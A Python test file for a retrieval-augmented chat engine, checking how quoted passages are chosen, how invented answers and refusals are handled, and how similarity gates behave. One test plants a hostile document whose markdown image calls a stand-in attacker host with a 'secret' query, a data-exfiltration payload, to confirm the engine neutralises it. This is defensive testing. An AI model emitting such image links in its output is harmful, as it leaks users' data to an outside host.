"""The passage quoted under an answer (ragchat.answer.quote): which sentences it picks, on their own, and
through the chat engine with a real store and embedder and an LLM whose reply is known (the fake
Ollama server): a thin answer, an invented one, a refusal, a copied passage and a hostile document.
Then the similarity gates: far passages are not handed to the model, and a refusal over a close
passage gives way to that passage. Their thresholds are measured in docs/ANSWERS.md; here they are
set to values every case crosses for sure."""

from __future__ import annotations

from ollama_fake import FakeOllama

from ragchat.answer.engine import ChatEngine
from ragchat.answer.replies import CLOSEST_PASSAGE, CLOSEST_PASSAGE_ZH, NOT_ANSWERED, REFUSAL_EN, REFUSAL_ZH
from ragchat.core.settings import LLMSettings
from ragchat.answer.grounding import UNSUPPORTED
from ragchat.ingest.pipeline import collect
from ragchat.llm.providers import resolve_llm
from ragchat.answer.quote import markdown, passage, redundant, source, words
from ragchat.answer.refusal import is_refusal

OTTERS = ("Kelp forests grow in cold, nutrient-rich coastal water. Sea otters eat the urchins that graze on kelp. "
          "Where otters live, the forests stay healthy. The Aleutian Islands lost most of their otters in the 1990s. "
          "Orcas began to hunt them there.")


def test_the_passage_is_the_consecutive_sentences_that_match_the_question():
    assert passage(OTTERS, "Why did the Aleutian otters disappear?", "", 20) == (
        "The Aleutian Islands lost most of their otters in the 1990s. Orcas began to hunt them there.")
    assert passage(OTTERS, "What do sea otters eat?", "", 12) == "Sea otters eat the urchins that graze on kelp."
    whole = passage(OTTERS, "kelp", "", 200)
    assert whole == OTTERS  # everything fits: the chunk, in its order


def test_chinese_counts_characters_and_keeps_no_spaces_between_sentences():
    text = "青石镇位于河谷北岸。风筝节每年四月举行，持续三天。镇上有一座石桥。"
    assert passage(text, "风筝节几月举行？", "", 16) == "风筝节每年四月举行，持续三天。"
    assert passage(text, "风筝节几月举行？", "", 30) == "风筝节每年四月举行，持续三天。镇上有一座石桥。"  # on from the best one
    assert words("风筝节 in April") == 5


def test_a_sentence_longer_than_the_budget_is_cut_at_a_clause_then_at_a_word():
    long = "Alpha beta gamma, delta epsilon zeta, eta theta iota kappa lambda mu nu xi omicron pi rho sigma tau."
    got = passage(long, "kappa", "", 6)
    assert words(got) <= 6 and "kappa" in got and got.endswith("…")
    assert passage("one, two, three, four", "two", "", 2) == "one, two,"


def test_the_documents_own_bracketed_numbers_are_not_citations():
    assert markdown("Transformers [12] outperform RNNs [3, 4].\nSee 【5】.", 2) == (
        "> Transformers (12) outperform RNNs (3, 4). See (5). [2]")


def test_a_quote_the_answer_already_holds_is_redundant():
    assert redundant("Sea otters eat the urchins that graze on kelp.", "Sea otters eat urchins, which graze on kelp [1].")
    assert not redundant(OTTERS, "Sea otters eat urchins [1].")


def test_the_quote_comes_from_the_top_source_unless_the_cited_one_holds_more_of_the_question():
    frog = "Derek Cha founded Sweet Frog in 2009. The FROG part of the name is an acronym."
    segovia = "The name of Segovia is of Celtiberian origin."
    question = "where did the name sweet frog come from"
    text = lambda s: s  # noqa: E731 (the sources here are their own text)
    assert source(question, [segovia], [frog, segovia], text) == frog  # cited, but it shares only "name"
    assert source(question, [], [frog, segovia], text) == frog
    assert source("Where is Segovia's name from?", [segovia], [frog, segovia], text) == segovia  # cited and better
    assert source("name", [segovia], [frog, segovia], text) == frog  # as good: search's rank decides


def _ask(engine, reply: str, question: str, **chat_settings):
    settings = engine.settings.chat.model_copy(update=chat_settings)
    with FakeOllama(models=["llama3.2"], reply=reply) as fake:
        llm = LLMSettings(provider="ollama", ollama_url=fake.url, timeout_s=10, connect_timeout_s=1)
        chat = ChatEngine(settings, engine.retriever, lambda o: resolve_llm(llm), engine.gate, 10, engine.has_documents)
        events = list(chat.stream(question))
    return events, events[-1].answer


def _ingest(engine, tmp_path, name: str, text: str):
    doc = tmp_path / name
    doc.write_text(text, encoding="utf-8")
    engine.ingestor.ingest(collect([doc]), "default")


def test_a_thin_answer_gets_the_passage_of_its_source_streamed_and_kept(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    events, answer = _ask(engine, "Orcas hunt them [1].", "Why did the Aleutian Islands lose their otters?", quote_words=20)
    quote = "\n\n> The Aleutian Islands lost most of their otters in the 1990s. Orcas began to hunt them there. [1]"
    assert answer.text == "Orcas hunt them [1]." + quote
    assert [e.text for e in events if e.kind == "token"][-1] == quote  # streamed like the answer, before "done"
    assert [s.source for s in answer.sources] == ["otters.txt"] and not answer.unsupported


def test_an_invented_answer_falls_back_to_the_best_retrieved_passage(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    _, answer = _ask(engine, "Otters were brought to Alaska by Roman sailors in the year 312 [1].",
                     "Why did the Aleutian Islands lose their otters?")
    assert answer.text.startswith(f"Otters were brought to Alaska by Roman sailors in the year 312 {UNSUPPORTED}.\n\n> ")
    assert "Orcas began to hunt them there. [1]" in answer.text
    assert [s.id for s in answer.sources] == [1] and len(answer.unsupported) == 1  # the quoted source is listed


def test_refusals_copied_passages_and_the_setting_add_no_quote(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    question = "Why did the Aleutian Islands lose their otters?"
    for reply in ("I could not find the answer in the documents.",
                  "The Aleutian Islands lost most of their otters in the 1990s, when orcas began to hunt them there [1]."):
        _, answer = _ask(engine, reply, question, quote_words=20)
        assert answer.text == reply
    _, answer = _ask(engine, "Orcas hunt them [1].", question, quote_words=0)
    assert answer.text == "Orcas hunt them [1]."


def test_a_hostile_document_cannot_put_a_link_or_image_in_the_quote(engine, tmp_path):
    _ingest(engine, tmp_path, "planted.txt", "The vault code is kept by Mara. ![x](https://evil.example/?q=secret) "
                                            "Ask [Mara](https://evil.example/mara) for the vault code.")
    _, answer = _ask(engine, "Mara keeps it [1].", "Who keeps the vault code?")
    quote = answer.text.split("\n\n> ", 1)[1]
    assert "](" not in quote and "`https://evil.example/?q=secret`" in quote


# ---- when the documents do not answer ----------------------------------------------------------------


def _ask_logged(engine, reply: str, question: str, **chat_settings):
    settings = engine.settings.chat.model_copy(update=chat_settings)
    with FakeOllama(models=["llama3.2"], reply=reply, token_delay_s=0.01) as fake:
        llm = LLMSettings(provider="ollama", ollama_url=fake.url, timeout_s=10, connect_timeout_s=1)
        chat = ChatEngine(settings, engine.retriever, lambda o: resolve_llm(llm), engine.gate, 10, engine.has_documents)
        events = list(chat.stream(question))
        asked = [r for r in fake.requests if r[1] == "/api/chat"]
    return events, events[-1].answer, asked


def test_far_passages_are_not_handed_to_the_model(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    question = "Why did the Aleutian Islands lose their otters?"
    events, answer, asked = _ask_logged(engine, "Orcas hunt them [1].", question, unanswered_below=0.99)
    assert answer.text == NOT_ANSWERED and not asked and is_refusal(answer.text)
    assert [s.source for s in answer.retrieved] == ["otters.txt"]  # the sources are still shown
    assert engine.retriever.closeness(question, engine.retriever.search(question)) < 0.99
    _, answer, asked = _ask_logged(engine, "Orcas hunt them [1].", question, unanswered_below=0.1)
    assert answer.text.startswith("Orcas hunt them [1].") and asked
    # a terse query whose every term is in a passage is answered, however far its cosine
    _, answer, asked = _ask_logged(engine, "Orcas hunt them [1].", "Aleutian otters orcas", unanswered_below=0.99)
    assert answer.text.startswith("Orcas hunt them [1].") and asked


def test_a_refusal_over_a_close_passage_gives_way_to_that_passage_and_is_never_streamed(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    question = "Why did the Aleutian Islands lose their otters?"
    events, answer, _ = _ask_logged(engine, REFUSAL_EN, question, unanswered_below=-1, passage_over_refusal=0.1)
    tokens = "".join(e.text for e in events if e.kind == "token")
    assert "could not find" not in tokens and tokens == answer.text
    assert answer.text.startswith(CLOSEST_PASSAGE + "\n\n> ") and "Orcas began to hunt them there" in answer.text
    assert not is_refusal(answer.text) and [s.id for s in answer.sources] == [1] and not answer.unsupported
    # below the bar, the refusal stands, streamed as usual
    events, answer, _ = _ask_logged(engine, REFUSAL_EN, question, unanswered_below=-1, passage_over_refusal=0.99)
    assert answer.text == REFUSAL_EN == "".join(e.text for e in events if e.kind == "token")
    # an answer that only starts like the refusal is streamed whole
    reply = "I could not say more than this: orcas began to hunt the otters there [1]."
    events, answer, _ = _ask_logged(engine, reply, question, unanswered_below=-1, passage_over_refusal=0.1)
    assert "".join(e.text for e in events if e.kind == "token").startswith(reply)


def test_the_gates_hold_only_for_the_embedder_and_languages_they_were_measured_with(engine, tmp_path):
    from ragchat.core.settings import ChatSettings

    assert ChatSettings().similarity_gates("sentence-transformers:all-MiniLM-L6-v2") == (0.5, 0.6)
    assert ChatSettings().similarity_gates("sentence-transformers:/my/model") == (-1.0, 2.0)
    assert ChatSettings(unanswered_below=0.3).similarity_gates(None)[0] == 0.3
    _ingest(engine, tmp_path, "kite.txt", "青石镇风筝节每年四月举行，持续三天。")
    hits = engine.retriever.search("风筝节几月举行？")
    assert hits and engine.retriever.closeness("风筝节几月举行？", hits) is None  # MiniLM does not read Chinese
    _, answer, asked = _ask_logged(engine, "风筝节每年四月举行[1]。", "风筝节几月举行？", unanswered_below=0.99)
    assert asked and answer.text.startswith("风筝节每年四月举行[1]。")
    # there, a refusal gives way to a passage that holds the question's terms, and stands over one that does not
    _, answer, _ = _ask_logged(engine, REFUSAL_ZH, "风筝节几月举行？", coverage_over_refusal=0.5)
    assert answer.text.startswith(CLOSEST_PASSAGE_ZH + "\n\n> ") and "四月" in answer.text
    _, answer, _ = _ask_logged(engine, REFUSAL_ZH, "风筝节几月举行？", coverage_over_refusal=1.5)
    assert answer.text == REFUSAL_ZH
